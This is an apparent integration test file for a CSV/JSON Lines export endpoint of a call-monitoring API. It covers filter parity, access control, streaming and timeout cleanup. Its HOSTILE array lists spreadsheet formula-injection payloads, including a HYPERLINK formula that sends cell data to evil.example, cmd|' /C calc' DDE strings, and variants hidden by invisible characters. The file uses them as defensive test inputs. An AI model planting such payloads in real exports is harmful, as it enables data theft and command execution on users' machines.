import http from "node:http";
import type { AddressInfo } from "node:net";
import { parse } from "csv-parse/sync";
import { pipeToNodeResponse } from "next/dist/server/pipe-readable";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createUser, signIn } from "../../lib/auth/users";
import { CSV_COLUMNS, runningExports } from "../../lib/export/calls";
import { callsExportPath } from "../../lib/export/link";
import { listCallsQuerySchema, searchParamsToObject } from "../../lib/schemas/read";
import { rpcError, textResult as text, toolErrorResult as toolError } from "../fixtures/jsonrpc";
import { startTestApi, type TestApi } from "../helpers/api";

// GET /api/v1/calls/export against a real PostgreSQL: the list's filters, CSV a spreadsheet
// cannot be attacked through (read back with csv-parse), JSON Lines, who may export what, and
// that the database client and the read's admission are released however the export ends.

type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;

const READ_TIMEOUT_MS = 300;
const EXPORT_TIMEOUT_MS = 2_500;

const T0 = Math.floor(Date.now() / 3_600_000) * 3_600_000 - 3 * 3_600_000;
const at = (minutes: number) => new Date(T0 + minutes * 60_000).toISOString();

// Cells a spreadsheet would run as formulas, in every text column a sender controls.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  // Spreadsheets that trim leading spaces on import run these as well.
  " =1+1",
  "   +1+cmd|' /C calc'!A0",
  "\u00a0=1+1",
  "\u3000@SUM(1+1)",
  "\n-1+1",
  // Invisible format characters and letters that render blank, which a spreadsheet may drop.
  ...["\u200c", "\u200d", "\u2060", "\u200e", "\u202e", "\u2066", "\u00ad", "\u180e"].map(
    (invisible) => `${invisible}=HYPERLINK("http://evil.example")`,
  ),
  ...["\u3164", "\u2800", "\uffa0", "\u{e0020}", "\ufeff\u200b"].map((blank) => `${blank}+1+1`),
];

const seed = [
  ...Array.from({ length: 30 }, (_, index) => {
    const base = {
      id: `call-${String(index).padStart(2, "0")}`,
      occurredAt: at(index),
      sessionId: `s-${index % 3}`,
    };
    switch (index % 5) {
      case 0:
        return {
          ...base,
          server: "crm",
          tool: "lead_get",
          httpStatus: 200,
          response: text(`lead ${index} found`),
        };
      case 1:
        return {
          ...base,
          server: "crm",
          tool: "lead_get",
          response: toolError("Payment required.", "payment_required"),
        };
      case 2:
        return { ...base, server: "billing", tool: "charge", httpStatus: 429, response: "Too Many Requests" };
      case 3:
        return {
          ...base,
          server: "billing",
          tool: "invoice",
          response: text("Error: could not parse document"),
        };
      default:
        return { ...base, server: "billing", tool: "charge", response: rpcError(-32601, "Method not found") };
    }
  }),
  ...HOSTILE.map((value, index) => ({
    id: `hostile-${index}`,
    occurredAt: at(40 + index),
    server: "crm",
    tool: value.replace(/\p{Cc}/gu, ""),
    sessionId: value.replace(/\p{Cc}/gu, ""),
    agent: "@agent",
    response: text(value),
  })),
  // Quoting: commas, quotes and line breaks survive the round trip.
  { id: "quoted", occurredAt: at(50), server: "crm", tool: "note", response: text('a, "b"\nc') },
  // Older than the default 30-day window.
  { id: "old", occurredAt: new Date(T0 - 40 * 86_400_000).toISOString(), server: "crm", tool: "lead_get" },
];

let api: TestApi;
let handler: Handler;
let otherKey: string;
let ingestOnlyKey: string;
let many: string[];

beforeAll(async () => {
  api = await startTestApi("export", {
    // The "old" call arrives 40 days late, to sit outside the default export window.
    FAULTLINE_LATE_ARRIVAL_DAYS: "60",
    FAULTLINE_READ_RATE_PER_SECOND: "0",
    FAULTLINE_READ_CONCURRENCY: "1",
    FAULTLINE_READ_TIMEOUT_MS: String(READ_TIMEOUT_MS),
    FAULTLINE_EXPORT_TIMEOUT_MS: String(EXPORT_TIMEOUT_MS),
  });
  handler = (await import("../../app/api/v1/calls/export/route")).GET as Handler;
  expect((await api.post({ calls: seed })).status).toBe(200);
  otherKey = await api.createKey("other", ["ingest", "read"]);
  ingestOnlyKey = await api.createKey("default", ["ingest"]);
  await api.post(
    { id: "theirs", server: "crm", tool: "lead_get", occurredAt: at(5), text: "theirs" },
    otherKey,
  );
  // Enough calls in their own server for several cursor batches.
  many = [];
  for (let batch = 0; batch < 3; batch++) {
    const calls = Array.from({ length: 1000 }, (_, index) => {
      const id = `bulk-${batch}-${String(index).padStart(4, "0")}`;
      many.push(id);
      return { id, server: "bulk", tool: "t", occurredAt: at(60 + batch), response: text(`row ${id}`) };
    });
    expect((await api.post({ calls })).status).toBe(200);
  }
});
afterAll(async () => api?.close());

function exportRequest(
  query: string,
  options: { key?: string | null; headers?: Record<string, string> } = {},
) {
  const headers: Record<string, string> = { ...options.headers };
  const key = options.key === undefined ? api.key : options.key;
  if (key) headers.authorization = `Bearer ${key}`;
  return handler(new Request(`http://faultline.test/api/v1/calls/export?${query}`, { headers }), {
    params: Promise.resolve({}),
  });
}

async function csv(query: string, key?: string): Promise<Record<string, string>[]> {
  const response = await exportRequest(`format=csv&${query}`, { key });
  expect(response.status).toBe(200);
  return parse(await response.text(), { columns: true, relax_column_count: false }) as Record<
    string,
    string
  >[];
}

async function jsonl(query: string, key?: string): Promise<Record<string, unknown>[]> {
  const response = await exportRequest(`format=jsonl&${query}`, { key });
  expect(response.status).toBe(200);
  const body = await response.text();
  return body === ""
    ? []
    : body
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** Every call the list API returns for these filters, paging to the end. */
async function listAll(query: string, key?: string): Promise<Record<string, unknown>[]> {
  const calls: Record<string, unknown>[] = [];
  let cursor: string | null = null;
  do {
    const page: { status: number; body: { calls: Record<string, unknown>[]; nextCursor: string | null } } =
      await api.get(
        `/api/v1/calls?limit=500&${query}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`,
        key,
      );
    expect(page.status).toBe(200);
    calls.push(...page.body.calls);
    cursor = page.body.nextCursor;
  } while (cursor);
  return calls;
}

/** Clients of the read pool checked out right now. */
const readClientsInUse = () => api.database.reads.totalCount - api.database.reads.idleCount;

async function settled() {
  await expect.poll(() => runningExports(), { timeout: 5_000 }).toBe(0);
  await expect.poll(readClientsInUse, { timeout: 5_000 }).toBe(0);
  // And no backend still running the export's query.
  await expect
    .poll(
      async () =>
        (
          await api.database.pool.query(
            `SELECT count(*)::int AS n FROM pg_stat_activity
              WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'SELECT id, occurred_at%'
                AND state <> 'idle'`,
          )
        ).rows[0].n,
      { timeout: 5_000 },
    )
    .toBe(0);
}

describe("GET /api/v1/calls/export", () => {
  it("answers CSV as a download, newest first, with a header row and every column", async () => {
    const response = await exportRequest("format=csv&server=crm&server=billing");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="faultline-calls-\d{8}T\d{6}Z\.csv"$/,
    );
    const body = await response.text();
    expect(body.split("\n")[0]).toBe(CSV_COLUMNS.map((column) => column.key).join(","));
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.id)).toEqual(
      (await listAll("server=crm&server=billing")).map((call) => call.id),
    );
    const paymentRequired = rows.find((row) => row.id === "call-01")!;
    expect(paymentRequired).toMatchObject({
      server: "crm",
      tool: "lead_get",
      method: "tools/call",
      outcome: "tool_error",
      category: "business",
      errorCode: "payment_required",
      silentFailure: "false",
      occurredAt: at(1),
      text: "Payment required.",
      sessionId: "s-1",
    });
    expect(rows.find((row) => row.id === "quoted")!.text).toBe('a, "b"\nc');
    // A silent failure's outcome reads as one, as in the dashboard and the outcome filter.
    const silent = (await listAll("server=crm&server=billing&outcome=silent_failure")).map((call) => call.id);
    expect(silent.length).toBeGreaterThan(0);
    for (const row of rows)
      expect([row.id, row.outcome]).toEqual([
        row.id,
        silent.includes(row.id) ? "silent_failure" : expect.not.stringMatching(/^silent_failure$/),
      ]);
    expect(
      rows.filter((row) => row.outcome === "silent_failure").every((row) => row.silentFailure === "true"),
    ).toBe(true);
  });

  it("neutralises every cell a spreadsheet would run as a formula, and nothing else", async () => {
    const rows = await csv("server=crm");
    for (const [index, value] of HOSTILE.entries()) {
      const row = rows.find((candidate) => candidate.id === `hostile-${index}`)!;
      const label = value.replace(/\p{Cc}/gu, "");
      expect(row.text).toBe(`'${value}`);
      expect(row.tool).toBe(
        /^[\s\u00a0\u3000\p{Cf}\u3164\u2800\uffa0]*[=+\-@＝]/u.test(label) ? `'${label}` : label,
      );
      expect(row.sessionId).toBe(row.tool);
      expect(row.agent).toBe("'@agent");
    }
    // Error codes starting with "-" too (JSON-RPC codes); ordinary text is left alone.
    const protocolError = (await csv("outcome=protocol_error")).find((row) => row.id === "call-04")!;
    expect(protocolError.errorCode).toBe("'-32601");
    expect(rows.find((row) => row.id === "call-00")!.text).toBe("lead 0 found");
    // JSON Lines carries the stored values unaltered.
    const lines = await jsonl("server=crm");
    expect(lines.find((line) => line.id === "hostile-0")!.text).toBe(HOSTILE[0]);
  });

  it("answers JSON Lines: one call per line, in the list API's shape", async () => {
    const response = await exportRequest("format=jsonl&server=billing");
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /filename="faultline-calls-\d{8}T\d{6}Z\.jsonl"$/,
    );
    const body = await response.text();
    expect(body.endsWith("\n")).toBe(true);
    const lines = body
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toEqual(await listAll("server=billing"));
  });

  it.each([
    "outcome=tool_error&outcome=transport_error",
    "category=rate_limited",
    "errorCode=payment_required",
    "server=billing&tool=invoice",
    "method=tools/call&server=crm",
    "flag=error_text",
    "silentFailure=true",
    "silentFailure=false&server=billing",
    "sessionId=s-1",
    "q=parse%20document",
    `from=${encodeURIComponent(at(10))}&to=${encodeURIComponent(at(15))}`,
    "order=asc&server=crm",
    "server=nobody",
  ])("selects exactly what the list selects for %s", async (query) => {
    const listed = await listAll(query);
    expect((await jsonl(query)).map((call) => call.id)).toEqual(listed.map((call) => call.id));
    expect((await csv(query)).map((row) => row.id)).toEqual(listed.map((call) => call.id));
  });

  it("filters by signature like the list", async () => {
    const signature = String((await listAll("errorCode=payment_required"))[0]!.signature);
    const listed = await listAll(`signature=${signature}`);
    expect(listed.length).toBeGreaterThan(0);
    expect((await jsonl(`signature=${signature}`)).map((call) => call.id)).toEqual(
      listed.map((call) => call.id),
    );
  });

  it("exports the last 30 days without `from`, like the list, and older calls when asked", async () => {
    expect((await jsonl("tool=lead_get")).some((call) => call.id === "old")).toBe(false);
    const since = encodeURIComponent(new Date(T0 - 60 * 86_400_000).toISOString());
    expect((await jsonl(`tool=lead_get&from=${since}`)).some((call) => call.id === "old")).toBe(true);
  });

  it("streams thousands of rows across cursor batches, none twice", async () => {
    const ids = (await csv("server=bulk&order=asc")).map((row) => row.id);
    expect(ids).toEqual(many);
    expect(new Set(ids).size).toBe(3000);
    await settled();
  });

  it.each([
    `server=billing&outcome=transport_error&outcome=protocol_error&from=${at(0)}&to=${at(30)}`,
    `silentFailure=true&flag=error_text&order=asc&sessionId=s-0&from=${at(0)}`,
    `q=payment&category=business&errorCode=payment_required&tool=lead_get&method=tools/call&from=${at(-60)}`,
  ])("the Activity page's download link exports that view: %s", async (view) => {
    const query = listCallsQuerySchema.parse(searchParamsToObject(new URLSearchParams(view)));
    const path = callsExportPath(query, "jsonl");
    expect(path).toMatch(/^\/api\/v1\/calls\/export\?format=jsonl&/);
    const listed = (await listAll(new URLSearchParams(view).toString())).map((call) => call.id);
    expect(listed.length).toBeGreaterThan(0);
    const response = await exportRequest(path.split("?")[1]!);
    expect(response.status).toBe(200);
    const exported = (await response.text()).trimEnd().split("\n");
    expect(exported.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(listed);
  });

  it("writes a CSV header even when nothing matches, and an empty JSONL body", async () => {
    const response = await exportRequest("format=csv&server=nobody");
    expect(await response.text()).toBe(`${CSV_COLUMNS.map((column) => column.key).join(",")}\n`);
    expect(await (await exportRequest("format=jsonl&server=nobody")).text()).toBe("");
  });

  it.each<[string, string, string]>([
    ["format=xml", "format", "must be one of csv, jsonl"],
    [
      "outcome=broken",
      "outcome",
      "must be one of ok, tool_error, protocol_error, transport_error, silent_failure",
    ],
    ["from=yesterday", "from", "must be an ISO-8601 date-time with a time zone"],
    [`from=${at(20)}&to=${at(10)}`, "from", "must be before to"],
    ["q=a%00b", "q", "must not contain a NUL character"],
  ])("answers 400 for %s naming the field and the rule", async (query, path, message) => {
    const response = await exportRequest(query);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { details: { path: string; message: string }[] } };
    expect(body.error.details).toContainEqual({ path, message });
  });

  it("needs a read key or a session, and shows only the key's own project", async () => {
    expect((await exportRequest("format=csv", { key: null })).status).toBe(401);
    expect((await exportRequest("format=csv", { key: "flk_not-a-key" })).status).toBe(401);
    expect((await exportRequest("format=csv", { key: ingestOnlyKey })).status).toBe(403);
    expect((await jsonl("tool=lead_get", otherKey)).map((call) => call.id)).toEqual(["theirs"]);
    expect((await jsonl("tool=lead_get")).some((call) => call.id === "theirs")).toBe(false);
    await settled();
  });

  it("serves a signed-in session the project it has selected, and no other", async () => {
    const [other] = (
      await api.database.pool.query<{ id: string }>(`SELECT id FROM projects WHERE name = 'other'`)
    ).rows;
    await createUser(api.database.prisma, {
      email: "member@example.test",
      password: "a long password 1",
      projectIds: [other!.id],
    });
    const token = await signIn(api.database, "member@example.test", "a long password 1", "127.0.0.1");
    // Asking for "default" (not theirs) still shows "other", the only project they may see.
    const response = await exportRequest("format=jsonl&tool=lead_get", {
      key: null,
      headers: { cookie: `faultline_session=${token}; faultline_project=default` },
    });
    expect(response.status).toBe(200);
    expect(
      (await response.text())
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual(["theirs"]);
  });

  it("is not cancelled by the read timeout however long it runs", async () => {
    const response = await exportRequest("format=csv&server=bulk");
    const reader = response.body!.getReader();
    let rows = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      rows += new TextDecoder().decode(value).split("\n").length - 1;
      // A slow client: well past the read pool's statement timeout in all.
      await new Promise((resolve) => setTimeout(resolve, READ_TIMEOUT_MS));
    }
    expect(rows).toBe(3001);
    await settled();
  });

  it("is cancelled by the export timeout: the body errors and the client is released", async () => {
    const response = await exportRequest("format=csv&server=bulk");
    const reader = response.body!.getReader();
    await reader.read();
    await new Promise((resolve) => setTimeout(resolve, EXPORT_TIMEOUT_MS + 500));
    await expect(
      (async () => {
        for (;;) if ((await reader.read()).done) return;
      })(),
    ).rejects.toThrow(/statement timeout|ran longer than FAULTLINE_EXPORT_TIMEOUT_MS/);
    await settled();
  });

  it("cuts off a client that stops reading but stays connected, at the export timeout", async () => {
    const response = await exportRequest("format=csv&server=bulk");
    const reader = response.body!.getReader();
    await reader.read();
    expect(runningExports()).toBe(1);
    // Never reads again: the client and the admission must still come back.
    await new Promise((resolve) => setTimeout(resolve, EXPORT_TIMEOUT_MS + 500));
    await settled();
    await expect(reader.read()).rejects.toThrow(/ran longer than FAULTLINE_EXPORT_TIMEOUT_MS/);
    expect((await api.get("/api/v1/calls?limit=1")).status).toBe(200);
  });

  it("keeps the read admitted until the body ends, and releases client and admission when the reader cancels", async () => {
    const response = await exportRequest("format=csv&server=bulk");
    const reader = response.body!.getReader();
    await reader.read();
    expect(runningExports()).toBe(1);
    expect(readClientsInUse()).toBe(1);
    // FAULTLINE_READ_CONCURRENCY=1: the export still counts as the key's running read.
    expect((await api.get("/api/v1/calls?limit=1")).status).toBe(429);
    await reader.cancel();
    await settled();
    expect((await api.get("/api/v1/calls?limit=1")).status).toBe(200);
  });

  it("releases the client when an HTTP client disconnects mid-download (piped as Next.js pipes it)", async () => {
    // Far more than socket buffers hold (~25 MB of CSV), so the hang-up lands mid-export.
    await api.database.pool.query(
      `INSERT INTO calls (project_id, id, occurred_at, server, tool, method, outcome, silent_failure, partial, empty,
                          text, text_length, signature)
       SELECT p.id, 'huge-' || i, $1::timestamptz, 'huge', 'big', 'tools/call', 'ok', false, false, false,
              repeat('x', 500), 500, 'huge'
         FROM projects p, generate_series(1, 50000) i WHERE p.name = 'default'`,
      [at(70)],
    );
    let exportsAtHangUp = -1;
    const server = http.createServer(async (incoming, outgoing) => {
      const response = await exportRequest("format=csv&server=huge");
      outgoing.writeHead(response.status, Object.fromEntries(response.headers));
      await pipeToNodeResponse(response.body!, outgoing);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const port = (server.address() as AddressInfo).port;
      await new Promise<void>((resolve, reject) => {
        const request = http.get({ host: "127.0.0.1", port, path: "/" }, (response) => {
          response.once("data", () => {
            exportsAtHangUp = runningExports();
            request.destroy();
            resolve();
          });
        });
        request.on("error", (error) => (request.destroyed ? undefined : reject(error)));
      });
      expect(exportsAtHangUp).toBe(1);
      await settled();
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
